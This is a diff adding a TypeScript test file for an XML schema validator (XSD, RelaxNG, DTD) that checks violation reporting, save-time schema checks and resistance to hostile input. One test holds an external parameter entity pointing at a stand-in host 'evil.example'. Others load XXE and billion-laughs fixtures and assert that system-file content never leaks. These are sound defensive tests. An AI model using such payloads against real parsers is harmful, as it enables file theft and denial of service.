@@ -1,0 +1,133 @@
+import { describe, expect, test } from "bun:test";
+import { readFileSync } from "node:fs";
+import { checkStepConfig } from "../../../src/validators/registry.ts";
+import { parseXml } from "../../../src/validators/shared/xml.ts";
+import { brief, codes, run } from "./helpers.ts";
+
+const fixture = (name: string) =>
+  readFileSync(new URL(`../../fixtures/validators/${name}`, import.meta.url), "utf8");
+const xsd = fixture("order.xsd");
+const rng = fixture("addressbook.rng");
+const dtd = fixture("note.dtd");
+
+const validate = (schema_type: string, schema: string, xml: string, extra: Record<string, unknown> = {}) =>
+  run("xml_schema", { schema_type, schema, ...extra }, xml, "XML");
+
+describe("xml_schema: XSD", () => {
+  test("a valid document passes", () => {
+    expect(validate("xsd", xsd, '<order><id>1</id><item sku="a" qty="2"/></order>').findings).toEqual([]);
+  });
+
+  test("violations carry line, column (start tag) and XPath", () => {
+    const xml = '<order>\n  <id>abc</id>\n  <item sku="a" qty="0"/>\n  <item qty="1"/>\n  <bogus/>\n</order>';
+    const r = validate("xsd", xsd, xml);
+    expect(brief(r, true)).toEqual([
+      { code: "xml.schema_violation", line: 2, column: 3, path: "/order/id" },
+      { code: "xml.schema_violation", line: 3, column: 3, path: "/order/item[1]" },
+      { code: "xml.schema_violation", line: 4, column: 3, path: "/order/item[2]" },
+      { code: "xml.schema_violation", line: 5, column: 3, path: "/order/bogus" },
+    ]);
+    expect(r.findings[0].message).toContain("'abc' is not a valid value");
+  });
+
+  test("a not-well-formed document is reported as such, not validated", () => {
+    expect(brief(validate("xsd", xsd, "<order><id>1</order>"))).toEqual([
+      { code: "xml.not_well_formed", line: 1, column: 21 },
+    ]);
+  });
+
+  test("findings are capped with truncated", () => {
+    const items = Array.from({ length: 20 }, () => '<item sku="a" qty="0"/>').join("\n");
+    const r = validate("xsd", xsd, `<order><id>1</id>\n${items}</order>`, { max_findings: 3 });
+    expect(r.findings).toHaveLength(3);
+    expect(r.truncated).toBe(true);
+  });
+
+  test("the compiled schema is reused across runs (cache) without leaking state", () => {
+    for (let i = 0; i < 50; i++) {
+      expect(codes(validate("xsd", xsd, "<order><id>x</id></order>"))).toEqual([
+        "xml.schema_violation",
+        "xml.schema_violation",
+      ]);
+    }
+  });
+});
+
+describe("xml_schema: RelaxNG and DTD", () => {
+  test("RelaxNG violations", () => {
+    const xml = "<addressBook>\n<card><name>x</name><age>x</age></card>\n<card><nam/></card></addressBook>";
+    const r = validate("relaxng", rng, xml);
+    expect(r.findings.length).toBeGreaterThan(0);
+    expect(r.findings.every((f) => f.code === "xml.schema_violation")).toBe(true);
+    expect(r.findings.at(-1)).toMatchObject({ line: 3, column: 7, path: "/addressBook/card[2]/nam" });
+    expect(
+      validate("relaxng", rng, "<addressBook><card><name>a</name><age>3</age></card></addressBook>").findings,
+    ).toEqual([]);
+  });
+
+  test("DTD violations", () => {
+    const r = validate("dtd", dtd, "<note>\n<to>a</to>\n<x/></note>");
+    expect(brief(r, true)).toEqual([
+      { code: "xml.schema_violation", line: 1, column: 1, path: "/note" },
+      { code: "xml.schema_violation", line: 1, column: 1, path: "/note" },
+      { code: "xml.schema_violation", line: 3, column: 1, path: "/note/x" },
+    ]);
+    const ok = '<note id="n1"><to>a</to><from>b</from><body>c</body></note>';
+    expect(validate("dtd", dtd, ok).findings).toEqual([]);
+  });
+});
+
+describe("xml_schema: save-time checks", () => {
+  const issues = (config: Record<string, unknown>) => checkStepConfig("xml_schema", config);
+  test("a broken XSD is an issue on schema", () => {
+    const bad =
+      '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="a" type="xs:nope"/></xs:schema>';
+    expect(issues({ schema_type: "xsd", schema: bad })[0]).toMatchObject({
+      field: "schema",
+      code: "invalid_schema",
+    });
+    expect(issues({ schema_type: "xsd", schema: "<xs:schema" })[0].field).toBe("schema");
+    expect(issues({ schema_type: "relaxng", schema: "<element/>" })[0].field).toBe("schema");
+    expect(issues({ schema_type: "dtd", schema: "<!ELEMENT note (to,from>" })[0].field).toBe("schema");
+  });
+  test("includes, imports and external parameter entities are refused", () => {
+    const inc =
+      '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="other.xsd"/></xs:schema>';
+    expect(issues({ schema_type: "xsd", schema: inc })[0].code).toBe("external_reference");
+    const pe = '<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;';
+    expect(issues({ schema_type: "dtd", schema: pe })[0].code).toBe("external_reference");
+  });
+  test("shape", () => {
+    expect(issues({ schema_type: "xslt", schema: "x" })[0].field).toBe("schema_type");
+    expect(issues({ schema_type: "xsd" })[0]).toMatchObject({ field: "schema", code: "required" });
+  });
+});
+
+describe("xml: hostile input", () => {
+  test("XXE: an external entity is never loaded", () => {
+    const xml = fixture("xxe.xml");
+    const parsed = parseXml(new TextEncoder().encode(xml));
+    if (!("doc" in parsed)) throw new Error("expected a document");
+    expect(parsed.doc.root.content).not.toContain("root:");
+    parsed.doc.dispose();
+    const schema =
+      '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="a" type="xs:string"/></xs:schema>';
+    const r = validate("xsd", schema, xml);
+    expect(JSON.stringify(r)).not.toContain("root:");
+    const a = run("assertions", { rules: [{ id: "r", expr: "true", message: "m" }] }, xml, "XML");
+    expect(JSON.stringify(a)).not.toContain("root:");
+  });
+
+  test("billion laughs finishes fast with a finding", () => {
+    const xml = fixture("billion-laughs.xml");
+    const t = performance.now();
+    expect(codes(run("syntax", {}, xml, "XML"))).toEqual(["xml.entity_expansion_limit"]);
+    expect(codes(validate("dtd", "<!ELEMENT lolz (#PCDATA)>", xml))).toEqual(["xml.entity_expansion_limit"]);
+    expect(performance.now() - t).toBeLessThan(1000);
+  });
+
+  test("element nesting beyond libxml2's limit is xml.max_depth", () => {
+    const xml = "<a>".repeat(300) + "</a>".repeat(300);
+    expect(codes(run("syntax", {}, xml, "XML"))).toContain("xml.max_depth");
+  });
+});
